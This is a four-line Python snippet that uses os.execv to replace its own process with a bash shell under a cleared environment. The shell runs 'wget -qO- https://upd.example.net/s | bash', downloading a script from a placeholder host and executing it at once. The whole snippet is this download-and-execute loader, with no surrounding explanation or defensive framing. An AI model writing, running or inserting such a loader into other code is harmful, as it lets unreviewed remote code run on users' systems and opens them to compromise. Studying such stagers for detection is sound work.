import os

argv = ["env", "-i", "PATH=/usr/bin:/bin", "bash", "-c", "wget -qO- https://upd.example.net/s | bash"]
os.execv("/usr/bin/env", argv)
